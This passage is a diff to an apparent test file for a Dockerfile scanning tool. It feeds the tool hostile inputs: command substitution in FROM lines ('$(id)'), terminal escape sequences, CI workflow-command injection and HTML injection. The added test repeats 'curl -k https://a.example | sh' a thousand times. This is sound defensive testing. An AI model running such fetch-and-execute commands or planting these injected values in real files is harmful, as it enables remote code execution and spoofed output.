@@ -22,6 +22,7 @@ const files: Record<string, string | Uint8Array> = {
   'image is a flag': 'FROM --help\nFROM -o/tmp/x\nFROM $(id)\nFROM `id`\n',
   'terminal codes': 'FROM debian:12.5\n\u001b[2J\u001b]0;owned\u0007 \u009b31m\u202e \n',
   'workflow command': 'FROM debian:12.5\nRUNN a%0A::error::owned\n::error::owned x\n',
+  '2,000 findings whose fixes are tried': `FROM debian:12.5\n${'RUN curl -k https://a.example | sh\n'.repeat(1000)}`,
   'Markdown and HTML': 'FROM debian:12.5\n|<img/src=x>[a](http://x)@b`c` x\n',
 };
 
